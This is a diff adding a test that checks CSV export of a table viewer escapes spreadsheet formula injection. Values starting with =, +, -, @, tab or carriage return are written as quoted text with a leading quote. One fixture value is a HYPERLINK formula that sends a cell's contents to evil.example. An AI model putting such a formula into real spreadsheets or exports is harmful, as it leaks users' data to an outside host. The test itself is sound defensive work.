@@ -103,4 +103,31 @@ describe("table export", () => {
     expect((await app.request("/tables/no_such_table")).status).toBe(404);
     close();
   });
+
+  it("writes text a spreadsheet would run as a formula as quoted text with a leading quote, and numbers as numbers", async () => {
+    const { app, path, close } = await viewerOver(0);
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn", "Plain-Name"];
+    sqlite3(
+      path,
+      names
+        .map((n) => `INSERT INTO resource_share_increments (claude_name, timestamp, mode, cache_read_increment, cost_delta, context_percentage)
+          VALUES ('${n.replace(/'/g, "''")}', '2026-11-27T10:00:00.000Z', 'autonomy', -7, -0.25, '-3');`)
+        .join("\n"),
+    );
+    const csvOf = async (url: string) => {
+      const res = await app.request(url);
+      expect(res.status, url).toBe(200);
+      return res.text();
+    };
+    const quoted = (n: string) => `"'${n.replace(/"/g, '""')}"`;
+
+    const rows = await csvOf("/tables/resource_share_increments/export/csv?from=2026-11-27");
+    // Stored as numbers (context_percentage is REAL: SQLite made '-3' a number): written as numbers.
+    for (const n of names) expect(rows).toContain(`,${n === "Plain-Name" ? n : quoted(n)},2026-11-27T10:00:00.000Z,autonomy,-7,-3,-0.25,`);
+
+    const daily = await csvOf("/daily/export/csv?from=2026-11-27&to=2026-11-27");
+    expect(daily).toContain(`${quoted(names[0]!)},2026-11-27,-7,0,-7,-0.25,0,-0.25,1,0,1,false\r\n`);
+    expect(daily).toContain("\r\nPlain-Name,2026-11-27,");
+    close();
+  });
 });
